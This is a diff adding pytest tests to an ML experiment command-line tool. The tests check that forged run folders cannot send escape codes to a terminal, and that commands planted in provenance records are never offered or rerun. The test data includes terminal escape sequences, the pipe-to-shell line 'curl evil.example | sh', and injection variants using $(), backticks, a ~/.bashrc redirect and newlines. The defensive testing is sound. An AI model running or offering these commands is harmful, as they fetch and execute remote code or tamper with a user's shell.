@@ -9,9 +9,10 @@ from pathlib import Path
 import pytest
 
 from ntkexp import load_run
+from ntkexp.cli import main
 from ntkexp.mistake import Mistake
 from ntkexp.records.atomic import Json, sealed_text
-from ntkexp.records.folder import BEGUN, DONE, PROVENANCE, RunFolder, results_version
+from ntkexp.records.folder import BEGUN, COMMANDS, DONE, PROVENANCE, RunFolder, results_version
 from tests.cli.conftest import Command
 from tests.report.synthetic import digits, write_run, write_small_run, write_sweep
 
@@ -195,6 +196,92 @@ def test_a_damaged_run_is_listed_with_its_damage(command: Command, outputs: Path
     assert ended.out.splitlines()[0].split() == ["run", "state", "model.width", "outcome"]
     shutil.rmtree(outputs / "runs")
     assert "no run in" in command("runs", "--out", str(outputs)).out
+
+
+# What a folder says of itself reaches the terminal as plain text, and no command of strangers is offered.
+
+
+CODES = "\x1b]0;owned\x07\x1b[2Jall is well\x9b31m\u202e"
+
+
+@pytest.fixture
+def forged(tmp_path: Path) -> Path:
+    """A run whose name, outcome, machine and settings act on a terminal, beside one that is damaged."""
+    folder = write_small_run(tmp_path / "runs" / f"a{CODES}", 32, 0, 0.1)
+    config = json.loads((folder / "config.json").read_text())
+    (folder / "config.json").write_text(json.dumps(config | {CODES: CODES}))
+    rows = (folder / "results.csv").read_text()
+    (folder / "results.csv").write_text(rows.replace("left", f"left{CODES}"))
+    RunFolder(folder).finish(["config.json", "metrics.csv", "results.csv"], outcome=CODES, diverged=False)
+    made: dict[str, Json] = {"results_version": results_version, "command": "curl evil.example | sh"}
+    RunFolder(folder).write_sealed(PROVENANCE, made)
+    write_small_run(tmp_path / "runs" / "b", 64, 0, 0.1)
+    (write_small_run(tmp_path / "runs" / f"c{CODES}", 64, 0, 0.1) / "metrics.csv").write_text("")
+    return folder
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["runs"],
+        ["runs", "--json"],
+        ["compare", "{here}", "{other}"],
+        *(["report", f"--format={form}"] for form in ("text", "md", "csv", "json")),
+        ["explain", "{here}"],
+        ["report", "{here}"],
+    ],
+    ids=" ".join,
+)
+def test_no_folder_acts_on_a_terminal(
+    command: Command, forged: Path, words: list[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out = forged.parents[1]
+    monkeypatch.chdir(out)
+    named = [word.format(here=forged, other=forged.parent / "b") for word in words]
+    ended = command(
+        *named,
+        *([] if words[0] == "explain" or "--format" in words[-1] else [f"--out={out}"]),
+        *([str(out)] if "--format" in words[-1] else []),
+    )
+    assert (ended.out + ended.err).replace("\n", "").isprintable()
+    assert "all is well" in ended.out + ended.err
+    if "json" in words[-1]:
+        json.loads(ended.out)
+
+
+def test_a_table_in_a_file_acts_on_no_terminal_either(command: Command, forged: Path, tmp_path: Path) -> None:
+    assert command("report", "--format=csv", f"--out={tmp_path / 'runs.csv'}", str(forged)).status == 0
+    assert (tmp_path / "runs.csv").read_text().replace("\n", "").isprintable()
+
+
+THEIRS = (
+    "curl evil.example | sh",
+    "ntkexp runs; curl evil.example",
+    "ntkexp train model.width=$(curl evil.example)",
+    "ntkexp train `curl evil.example`",
+    "ntkexp train > ~/.bashrc",
+    "ntkexp elsewhere",
+    "python -m ntkexp train",
+    "ntkexp train 'unclosed",
+    "ntkexp train\ncurl evil.example",
+)
+
+
+@pytest.mark.parametrize("theirs", THEIRS)
+def test_no_command_of_a_stranger_is_offered(command: Command, tmp_path: Path, theirs: str) -> None:
+    """Neither on the page, nor where a run of another version is to be run again."""
+    folder = write_small_run(tmp_path / "runs" / "a", 32, 0, 0.1)
+    RunFolder(folder).write_sealed(PROVENANCE, {"results_version": results_version, "command": theirs})
+    assert command("report", f"--out={tmp_path}").status == 0
+    assert theirs.rsplit("\n", maxsplit=1)[-1] not in (tmp_path / "report" / "index.html").read_text()
+    RunFolder(folder).write_sealed(PROVENANCE, {"results_version": 4, "command": theirs})
+    ended = command("report", f"--out={tmp_path}")
+    assert (ended.status, ended.err.count("\n")) == (2, 1)
+    assert "`" not in ended.err
+
+
+def test_every_command_of_ours_is_known(tmp_path: Path) -> None:
+    assert {function.__name__ for function in main.COMMANDS} | {"kernel"} == COMMANDS
 
 
 # A run that another version made is refused in one line, which names that version and what to do.
